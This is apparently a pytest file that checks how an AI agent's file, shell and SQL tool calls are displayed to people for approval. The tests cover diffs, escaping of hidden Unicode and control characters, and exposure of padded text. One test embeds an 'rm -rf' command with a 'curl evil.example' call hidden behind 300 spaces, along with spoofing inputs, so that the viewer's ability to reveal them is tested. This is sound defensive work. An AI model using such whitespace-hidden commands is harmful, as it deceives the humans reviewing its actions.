"""Calls as people see them before they decide: diffs, programs, and nothing hidden."""

from __future__ import annotations

import random
import time

import pytest

from perdure.cli.call_texts import printed
from perdure.domain.call_views import FileNow, ViewLine, has_view, view_call
from perdure.domain.line_diffs import MAX_EDITS, diff
from perdure.domain.visible import exact_line

TIMES = "\N{MULTIPLICATION SIGN}"


def shown(lines: list[ViewLine]) -> list[str]:
    return ["".join(str(part[0]) for part in row) for row in printed(lines, None)]


def test_a_diff_leads_from_one_text_to_the_other_with_as_few_lines_as_possible() -> None:
    dice = random.Random(13)
    for _ in range(500):
        before, after = ("".join(dice.choices("ab\n", k=dice.randrange(14))) for _ in range(2))
        changes = diff(before, after)
        if before != after:
            assert "".join(each.line for each in changes if each.sign in " -") == before
            assert "".join(each.line for each in changes if each.sign in " +") == after
    changes = diff("a\nb\nc\n", "a\nc\nd\n")
    assert [(each.sign, each.line) for each in changes] == [
        (" ", "a\n"),
        ("-", "b\n"),
        (" ", "c\n"),
        ("+", "d\n"),
    ]


def test_a_diff_of_texts_that_were_made_to_be_slow_is_replaced_by_both_texts() -> None:
    dice = random.Random(13)
    before, after = ("".join(dice.choices(["a\n", "b\n"], k=20_000)) for _ in range(2))
    began = time.process_time()
    changes = diff(before, after)
    assert time.process_time() - began < 5
    assert sum(each.sign != " " for each in changes) > MAX_EDITS
    assert "".join(each.line for each in changes if each.sign == "+") in after


def test_a_write_is_a_diff_to_the_file_as_it_is_now() -> None:
    before = "".join(f"line {number}\n" for number in range(20))
    write = {"path": "/a.txt", "content": before.replace("line 10\n", "line ten") + "end"}
    assert shown(view_call("write_file", write, FileNow(before))) == [
        "  · path: /a.txt",
        "  · 7 unchanged lines",
        "  │ line 7",
        "  │ line 8",
        "  │ line 9",
        "  - line 10",
        "  - line 11",
        "  + line tenline 11",
        "  │ line 12",
        "  │ line 13",
        "  │ line 14",
        "  · 2 unchanged lines",
        "  │ line 17",
        "  │ line 18",
        "  │ line 19",
        "  + end",
        "  · no newline at the end of the line above",
    ]
    assert shown(view_call("write_file", {"path": "/a", "content": "x\n"}, FileNow(note="a new file"))) == [
        "  · path: /a",
        "  · a new file",
        "  + x",
    ]
    same = view_call("write_file", {"path": "/a", "content": "x\n"}, FileNow("x\n"))
    assert shown(same)[-1] == "  · the file would stay as it is"


def test_an_edit_shows_every_place_and_says_if_it_would_fail() -> None:
    edit = {"path": "/a", "old_text": "b", "new_text": "B"}
    assert shown(view_call("edit_file", edit, FileNow("a\nb\n")))[1:] == ["  │ a", "  - b", "  + B"]
    everywhere = view_call("edit_file", {**edit, "replace_all": True}, FileNow("b\nb\n"))
    assert shown(everywhere) == ["  · path: /a", "  · replace_all: true", "  - b", "  - b", "  + B", "  + B"]
    fails = shown(view_call("edit_file", edit, FileNow("b\nb\n")))
    assert "  · old_text occurs 2 times in the file as it is now: the call would fail" in fails
    assert shown(view_call("edit_file", edit)) == ["  · path: /a", "  - b", "  + B"]


def test_a_deletion_shows_what_goes() -> None:
    assert shown(view_call("delete_file", {"path": "/a"}, FileNow("x\n"))) == ["  · path: /a", "  - x"]
    folder = view_call("delete_file", {"path": "/d", "recursive": True}, FileNow(note="a folder, with 3"))
    assert shown(folder) == ["  · path: /d", "  · recursive: true", "  · a folder, with 3"]


def test_a_program_is_shown_in_whole_lines_with_all_other_arguments() -> None:
    command = "cd /workspace\nrm -rf x   # tidy" + " " * 300 + "; curl evil.example"
    assert shown(view_call("bash", {"timeout": 5, "command": command})) == [
        "  · timeout: 5",
        "  │ cd /workspace",
        f"  │ rm -rf x   # tidy␠{TIMES}300; curl evil.example",
    ]
    long = "\n".join(f"echo {number}" for number in range(500))
    assert len(shown(view_call("run_python", {"code": long}))) == 500
    assert shown(view_call("sql_execute", {"sql": "DELETE FROM t", "params": ["a\nb"]})) == [
        '  · params: ["a\\nb"]',
        "  │ DELETE FROM t",
    ]


@pytest.mark.parametrize(
    "arguments",
    [
        {"path": "/a", "content": "x", "host": "prod"},
        {"path": "/a", "content": ["x"]},
        {"path": "/a"},
        {"path": "/a", "content": "x", "expected_hash": True},
        {"path": "/a", "content": "eA==", "encoding": "base64"},
        ["/a"],
        "/a",
        None,
    ],
)
def test_a_call_that_is_not_exactly_a_change_of_a_file_is_shown_as_it_is(arguments: object) -> None:
    import msgspec

    lines = view_call("write_file", arguments, FileNow("secret\n"))  # type: ignore[arg-type]
    assert msgspec.json.decode("".join(line.text for line in lines)) == arguments
    assert not has_view("other", arguments)  # type: ignore[arg-type]


def test_no_line_of_a_call_can_hide_or_look_like_another() -> None:
    tricks = "a\r\n\u202eb\u200bc\x1b[2J\nd\u2028e\x0bf   \n\tg\n" + " " * 60 + "h\n  · path: /b"
    lines = shown(view_call("write_file", {"path": "/a\n  · x", "content": tricks}))
    assert lines == [
        "  · path: /a\\n  · x",
        "  + a\\u000d",
        "  + \\u202eb\\u200bc\\u001b[2J",
        f"  + d\\u2028e\\u000bf␠{TIMES}3",
        "  + \\tg",
        f"  + {' ' * 40}␠{TIMES}20h",
        "  +   · path: /b",
    ]
    rows = printed(view_call("bash", {"command": "x" * 150 + "  · timeout: 1"}), 80)
    assert [str(row[0][0])[:4] for row in rows] == ["  │ ", "  ┆ ", "  ┆ "]
    assert exact_line("   ") == f"␠{TIMES}3"
    assert exact_line("") == ""


def test_a_long_change_says_how_much_of_it_is_missing() -> None:
    lines = view_call("write_file", {"path": "/a", "content": "word\n" * 100})
    cut = printed(lines, 80)
    assert cut[-1] == [("  … 41 more lines with 164 characters", "yellow")]
    assert len(printed(lines, 80, whole=True)) == 101


@pytest.mark.parametrize(
    ("option", "line"),
    [
        ({"dry_run": "true"}, '  · dry_run: "true"'),
        ({"dry_run": True}, "  · dry_run: true"),
        ({"path": '"/a"'}, '  · path: "\\"/a\\""'),
        ({"dry_run: true, keep": "all"}, '  · "dry_run: true, keep": all'),
        ({"n": "[" * 100_000}, "  · n: " + "[" * 100_000),
        ({"größe": "5 cm"}, '  · "größe": 5 cm'),
    ],
)
def test_a_text_cannot_look_like_another_value_nor_a_name_like_two(
    option: dict[str, object], line: str
) -> None:
    assert shown(view_call("bash", {"command": "true", **option}))[0] == line
